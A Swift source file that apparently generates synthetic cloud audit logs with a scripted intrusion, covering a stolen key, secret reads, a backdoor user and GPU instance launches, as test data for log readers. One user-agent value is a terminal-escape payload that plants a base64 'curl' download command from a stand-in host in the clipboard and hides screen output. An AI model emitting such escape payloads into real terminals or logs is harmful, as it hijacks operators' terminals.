/// Events that happen once, in this order, whatever the total number: the intrusion, and records
/// that break readers which expect all records to look alike.
///
///     day 80 % of the time, 22:41: sts GetCallerIdentity with the pipeline's key, from me-south-1
struct ScriptedEvent: Sendable {
  let actor: Actor
  let call: Call
  let region: String
  /// Index into the company's accounts.
  var account = 0
  /// The time, in percent of the days, and then in seconds of that day.
  let dayPercent: Int
  let second: Int
}

enum Script {
  static let events = intrusion + oddities

  private static func key(_ user: String, source: Template, agent: Template) -> Actor {
    Actor(
      name: "stolen key", weight: 0, crew: 1, identity: Identity.user(user), source: source,
      agent: agent, calls: [])
  }

  private static let thief = key(
    Company.stolenKeyOwner, source: "203.0.113.77",
    agent: "aws-cli/1.44.2 md/Botocore#1.42.12 ua/2.1 os/linux#6.11.2-amd64 lang/python#3.12.7")

  /// The same key, with a user agent that takes over a terminal that prints it: it sets the
  /// clipboard and the title, clears the screen, and hides what follows.
  private static let prankster = key(
    Company.stolenKeyOwner, source: "2001:db8:bad:5::77",
    agent: """
      aws-cli/1.44.2 \\u001b]52;c;Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L3gK\\u0007\\u001b]0;owned\\u0007\
      \\u001b[2J\\u001b[8m\u{9b}31m\\u009b2K\\u202e\\r\\n\\u0000done
      """)

  private static let planted = key(
    Calls.planted, source: "2001:db8:bad:5::77",
    agent: "Boto3/1.42.12 md/Botocore#1.42.12 ua/2.1 os/linux#6.11.2-amd64 lang/python#3.12.7")

  private static let intrusion: [ScriptedEvent] = {
    let bahrain = "me-south-1"
    let cape = "af-south-1"
    let global = Company.globalRegion
    let capacity = "Server.InsufficientInstanceCapacity"
    let noRoom: Template = """
      We currently do not have sufficient p4d.24xlarge capacity in the Availability Zone you \
      requested (<region>a).
      """
    let limit: Template = """
      You have requested more vCPU capacity than your current vCPU limit of 64 allows for the \
      instance bucket that the specified instance type belongs to.
      """
    let steps: [(Actor, String, [Call])] = [
      (thief, bahrain, [Calls.whoAmI, Calls.listBuckets, Calls.describeRegions]),
      (thief, global, [Calls.listUsers, Calls.denied(Calls.listRoles)]),
      (thief, bahrain, [Calls.describeInstances, Calls.describeInstances, Calls.listSecrets]),
      (thief, bahrain, [Calls.getSecret, Calls.getSecret, Calls.getSecret]),
      (prankster, bahrain, [Calls.whoAmI, Calls.describeInstances]),
      (thief, cape, [Calls.describeInstances, Calls.denied(Calls.getQuota)]),
      (thief, global, [Calls.denied(Calls.stopLogging)]),
      (thief, global, [Calls.createUser, Calls.createAccessKey, Calls.attachPolicy]),
      (planted, cape, [Calls.whoAmI, Calls.describeRegions, Calls.describeInstances]),
      (planted, cape, [Calls.getQuota, Calls.createKeyPair, Calls.addIngress]),
      (
        planted, cape,
        [
          Calls.runRefused("p4d.24xlarge", count: 8, code: capacity, message: noRoom),
          Calls.runRefused("p4d.24xlarge", count: 4, code: capacity, message: noRoom),
          Calls.runRefused(
            "p3.16xlarge", count: 4, code: "Client.VcpuLimitExceeded", message: limit),
          Calls.runInstances("g5.12xlarge", count: 1), Calls.describeInstances,
        ]
      ),
      (planted, bahrain, [Calls.describeInstances, Calls.createKeyPair, Calls.addIngress]),
      (
        planted, bahrain,
        [
          Calls.runInstances("g5.12xlarge", count: 1),
          Calls.runInstances("g4dn.12xlarge", count: 1),
          Calls.describeInstances, Calls.listBuckets,
        ]
      ),
    ]
    // From 21:41 UTC, just over two hours of steps in bursts.
    var second = 21 * 3600 + 41 * 60 + 12
    return steps.flatMap { actor, region, calls in
      second += 480
      return calls.enumerated().map { index, call in
        ScriptedEvent(
          actor: actor, call: call, region: region, dayPercent: 80, second: second + index * 37)
      }
    }
  }()
}
